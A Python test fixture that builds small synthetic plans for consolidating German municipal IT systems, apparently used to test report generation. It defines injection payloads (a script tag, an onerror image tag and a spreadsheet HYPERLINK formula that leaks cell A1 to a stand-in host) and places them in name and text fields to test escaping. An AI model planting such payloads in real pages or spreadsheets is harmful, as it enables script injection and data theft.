"""Hand-built plans for the report tests: small (3 organisations, 6 systems) and realistic."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from plan.models import (
    Assignment,
    BindingConstraint,
    Blackout,
    CostLine,
    CostSummary,
    DataCentre,
    DomainMetrics,
    ExceptionEntry,
    FundingRelease,
    MoveGroup,
    Plan,
    PlanMeta,
    PlanOrganisation,
    SolverStep,
    TargetInstance,
    Wave,
)

HOSTILE_SCRIPT = "<script>alert('x')</script>"
HOSTILE_IMG = '"><img src=x onerror=alert(1)>'
HOSTILE_FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klick")'


def small_plan(*, hostile: bool = False, variant: int = 0, synthetic: bool = True) -> Plan:
    """3 organisations in 2 Kreise, 6 systems in 2 domains, 2 targets, 1 data centre.

    ``variant=1`` moves one system a wave later and drops the exception (for comparisons).
    ``hostile=True`` puts script, attribute-breaking and formula strings into names and texts.
    """
    org_a = HOSTILE_SCRIPT if hostile else "Gemeinde Aue"
    just = HOSTILE_FORMULA if hostile else "Fachverfahren mit Sonderschnittstelle zum Land"
    dc_name = HOSTILE_IMG if hostile else "RZ eGo-Saar Saarbrücken"
    orgs = (
        PlanOrganisation(id="aue", name=org_a, kind="Gemeinde", ags="10041111", district="10041",
                         district_name="Regionalverband Saarbrücken", participates=True, zweckverband_member=True,
                         population=12345),
        PlanOrganisation(id="berg", name="Stadt Berg", kind="Stadt", ags="10042112", district="10042",
                         district_name="Merzig-Wadern", participates=True, zweckverband_member=True,
                         population=23456),
        PlanOrganisation(id="tal", name="Gemeinde Tal", kind="Gemeinde", ags="10042113", district="10042",
                         district_name="Merzig-Wadern", participates=False, zweckverband_member=True,
                         exit_date=date(2026, 12, 31), population=4567),
    )
    dc = DataCentre(id="rz-sb", name=dc_name, certifications=("ISO 27001 auf Basis von IT-Grundschutz",),
                    redundancy="2n", allows_sehr_hoch=True, capacity_vcpu=512, capacity_ram_gb=4096,
                    capacity_storage_tb=200.0, used_vcpu=480, used_ram_gb=1024, used_storage_tb=40.0,
                    supernet="10.20.0.0/16")
    targets = (
        TargetInstance(id="t-ewo", domain="ewo", product="ewo-std", product_name="EWO Standard",
                       category="Fachverfahren", data_centre="rz-sb", vcpu=16, ram_gb=64, storage_gb=500,
                       schutzbedarf="hoch", tenants=("aue", "berg"), onboarding_per_quarter=4,
                       annual_run_cost=Decimal("40000.00")),
        TargetInstance(id="t-mail", domain="mail", product="mail-std", product_name="Groupware Standard",
                       category="Basis-IT", data_centre="rz-sb", vcpu=8, ram_gb=32, storage_gb=2000,
                       schutzbedarf="normal", tenants=("aue", "berg"), onboarding_per_quarter=6,
                       annual_run_cost=Decimal("25000.00")),
    )
    q_b = 3 if variant else 2

    def binding(kind: str, detail: str) -> BindingConstraint:
        return BindingConstraint(kind=kind, detail=detail)

    assignments = (
        Assignment(system="aue-ewo", org="aue", domain="ewo", product_before="ewo-alt", decision="migrate",
                   target="t-ewo", data_centre="rz-sb", move_group="g1", quarter=1, quarter_label="2026-Q2",
                   effort_eigen_pd=10, effort_fremd_pd=20, one_off_cost=Decimal("15000.00"),
                   end_of_life=date(2025, 12, 31), migrated_after_eol=True, schutzbedarf="hoch",
                   binding=binding("eol", "Supportende 2025")),
        Assignment(system="aue-mail", org="aue", domain="mail", product_before="mail-alt", decision="migrate",
                   target="t-mail", data_centre="rz-sb", move_group="g2", quarter=q_b, quarter_label=f"2026-Q{q_b + 1}",
                   effort_eigen_pd=5, effort_fremd_pd=5, one_off_cost=Decimal("4000.00"), schutzbedarf="normal",
                   binding=binding("dependency", "wartet auf Verzeichnisdienst")),
        Assignment(system="berg-ewo", org="berg", domain="ewo", product_before="ewo-std", decision="stay",
                   schutzbedarf="hoch", binding=binding("stay", "bleibt am Ort")),
        Assignment(system="berg-mail", org="berg", domain="mail", product_before="mail-x", decision="exception",
                   schutzbedarf="sehr hoch", binding=binding("exception", "Einzelmaßnahme E1"))
        if not variant else
        Assignment(system="berg-mail", org="berg", domain="mail", product_before="mail-x", decision="migrate",
                   target="t-mail", data_centre="rz-sb", move_group="g3", quarter=4, quarter_label="2027-Q1",
                   effort_eigen_pd=4, effort_fremd_pd=6, one_off_cost=Decimal("5000.00"), schutzbedarf="normal",
                   binding=binding("capacity", "Kapazität")),
        Assignment(system="tal-ewo", org="tal", domain="ewo", product_before="ewo-alt", decision="out_of_scope",
                   schutzbedarf="hoch", binding=binding("out_of_scope", "Austritt 2026")),
        Assignment(system="tal-mail", org="tal", domain="mail", product_before="mail-alt", decision="out_of_scope",
                   schutzbedarf="normal", binding=binding("out_of_scope", "Austritt 2026")),
    )
    waves = (
        Wave(quarter=1, label="2026-Q2", start=date(2026, 4, 1), end=date(2026, 6, 30), groups=1, systems=1,
             effort_eigen_pd=10, effort_fremd_pd=20, capacity_eigen_pd=10, capacity_fremd_pd=40),
        Wave(quarter=q_b, label=f"2026-Q{q_b + 1}", start=date(2026, 7, 1), end=date(2026, 9, 30), groups=1,
             systems=1, effort_eigen_pd=5, effort_fremd_pd=5, capacity_eigen_pd=20, capacity_fremd_pd=40),
    )
    years = tuple(range(2026, 2036))
    lines = []
    for y in years:
        for org in ("aue", "berg"):
            lines.append(CostLine(year=y, org=org, scenario="status_quo", category="run_legacy", kind="cash",
                                  payer="kommune", betriebsart="Eigenleistung", amount=Decimal("10000.00")))
            lines.append(CostLine(year=y, org=org, scenario="plan", category="run_target", kind="cash",
                                  payer="kommune", betriebsart="Fremdleistung", amount=Decimal("6000.00")))
        # aue's EOL system: a modelled surcharge in every year of the status quo, one year in the plan
        lines.append(CostLine(year=y, org="aue", scenario="status_quo", category="eol_penalty", kind="risk",
                              betriebsart="Fremdleistung", amount=Decimal("20000.00")))
    lines.append(CostLine(year=2026, org="aue", scenario="plan", category="eol_penalty", kind="risk",
                          betriebsart="Fremdleistung", amount=Decimal("5000.00")))
    lines.append(CostLine(year=2026, org="aue", scenario="plan", category="migration", kind="cash", payer="land",
                          betriebsart="Fremdleistung", amount=Decimal("19000.00")))
    costs = CostSummary(
        years=years, tco_status_quo=Decimal("200000.00"), tco_plan=Decimal("139000.00"),
        one_off=Decimal("19000.00"), npv_status_quo=Decimal("175432.10"), npv_plan=Decimal("125678.90"),
        npv_savings=Decimal("49753.20"), eigen_total=Decimal("12345.67"), fremd_total=Decimal("6654.33"),
        risk_status_quo=Decimal("200000.00"), risk_plan=Decimal("5000.00"), lines=tuple(lines),
    )
    metrics = (
        DomainMetrics(domain="ewo", domain_name="Einwohnermeldewesen", systems=3, products_before=2,
                      products_after=1, instances_before=3, instances_after=1, consolidation_ratio=3.0),
        DomainMetrics(domain="mail", domain_name="E-Mail/Groupware", systems=3, products_before=2,
                      products_after=2 if not variant else 1, instances_before=3, instances_after=2,
                      consolidation_ratio=1.5),
    )
    return Plan(
        meta=PlanMeta(tool_version="0.1.0", scenario_id="landesweit" if not variant else "kreisweise",
                      scenario_name="Landesweit" if not variant else "Kreisweise", scenario_hash="ab" * 32,
                      inventory_name="test-inventory", inventory_hash="cd" * 32, synthetic=synthetic,
                      start=date(2026, 1, 1), horizon_quarters=40, discount_rate=Decimal("0.03")),
        organisations=orgs,
        data_centres=(dc,),
        targets=targets,
        assignments=assignments,
        move_groups=(MoveGroup(id="g1", systems=("aue-ewo",)), MoveGroup(id="g2", systems=("aue-mail",))),
        waves=waves,
        blackouts=(Blackout(id="wahl-2026", domains=("ewo",), start=date(2026, 7, 1), end=date(2026, 9, 30),
                            reason="Kommunalwahl" if not hostile else HOSTILE_SCRIPT, quarters=(2,)),),
        exceptions=() if variant else (
            ExceptionEntry(id="e1", systems=("berg-mail",), org="berg", justification=just, coordinated=False),),
        metrics=metrics,
        costs=costs,
        funding=(FundingRelease(year=2026, quarter=1, milestone="m1", description="Welle 2026-Q2 abgeschlossen",
                                org="aue", amount=Decimal("7500.00")),
                 FundingRelease(year=2027, quarter=4, milestone="m2", description="EWO konsolidiert",
                                amount=Decimal("12500.50"))),
        solver=(SolverStep(step="placement", solver="CP-SAT", status="OPTIMAL", objective=100.0, best_bound=100.0,
                           gap=0.0, time_s=0.4),
                SolverStep(step="schedule", solver="CP-SAT", status="FEASIBLE", objective=42.0, best_bound=40.0,
                           gap=0.05, time_s=2.5, baseline_objective=55.0)),
    )
